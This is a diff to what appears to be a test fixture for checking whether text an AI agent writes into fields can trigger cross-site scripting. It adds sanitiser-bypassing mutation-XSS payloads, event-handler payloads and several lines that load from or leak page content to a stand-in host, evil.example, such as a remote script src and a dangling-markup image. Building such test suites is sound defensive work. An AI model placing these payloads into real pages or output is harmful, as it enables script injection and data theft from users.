@@ -1,4 +1,9 @@
-"""Cross-site scripting: what an agent might write into any field. Each sets `window.hit` where it runs, or asks another host."""
+"""Cross-site scripting: what an agent might write into any field. Each sets `window.hit` where it runs, or asks another host.
+
+After the OWASP XSS Filter Evasion Cheat Sheet, the PortSwigger cross-site scripting cheat sheet (event handlers without interaction, dangling
+markup), html5sec.org (attributes, SVG, MathML), mutation XSS as DOMPurify met it (CVE-2020-26870, CVE-2024-45801, CVE-2024-47875), template
+injection as PayloadsAllTheThings lists it, UTF-7 and ISO-2022-JP (Heyes 2024), and terminals (CVE-2022-45872 and its like).
+"""
 
 from __future__ import annotations
 
@@ -63,4 +68,16 @@ PAYLOADS = (
     "<div popover id=x onbeforetoggle=window.hit=1>",
     "<button formaction=javascript:window.hit=1>x",
     "<p style=position:fixed;inset:0;background:red>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
+    "<svg></p><style><a title='</style><img src onerror=window.hit=1>'>",
+    "<img src='https://evil.example/?",
+    "<xss style=animation-name:x onanimationstart=window.hit=1>",
+    "<input type=hidden accesskey=x onclick=window.hit=1>",
+    "<a href='java\tscript:window.hit=1' autofocus>x</a>",
+    "<a href='//evil.example' ping='//evil.example'>x</a>",
+    "<script type=module>window.hit=1</script>",
+    "<script src=//evil.example></script>",
+    "<audio src=x onerror=window.hit=1>",
+    "<iframe name=main src=//evil.example>",
+    "\u202e<script>window.hit=1</script>",
 )
